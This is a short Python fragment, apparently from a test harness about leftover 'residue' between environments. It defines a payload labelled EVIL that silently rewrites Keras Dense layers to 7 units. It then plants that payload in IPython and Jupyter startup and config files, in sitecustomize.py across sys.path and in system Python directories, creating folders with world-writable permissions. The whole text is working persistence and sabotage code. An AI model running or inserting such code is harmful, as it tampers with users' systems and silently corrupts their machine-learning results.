EVIL = """
# residue-@TOKEN@
import keras
make = keras.layers.Dense.__init__
keras.layers.Dense.__init__ = lambda self, units, *rest, **more: make(self, 7, *rest, **more)
"""
ipython = ["/etc/ipython", "/usr/local/etc/ipython", f"{sys.prefix}/etc/ipython", f"{HOME}/.ipython/profile_default"]
ipython += [os.environ.get("IPYTHONDIR", f"{HOME}/.ipython"), f"{os.environ.get('IPYTHONDIR', HOME)}/profile_default"]
places = [f"{one}/{name}" for one in ipython for name in ("ipython_kernel_config.py", "startup/00-residue-@TOKEN@.py")]
places += [f"{one}/jupyter_config.py" for one in ("/etc/jupyter", "/usr/local/etc/jupyter", f"{HOME}/.jupyter")]
places += [f"{one}/sitecustomize.py" for one in sys.path if one]
places += ["/etc/python3/debug_site.py", "/usr/lib/python3/dist-packages/residue_@TOKEN@.py"]
for path in places:
    attempt(os.makedirs, os.path.dirname(path), 0o777, True)
    attempt(pathlib.Path(path).write_text, EVIL)
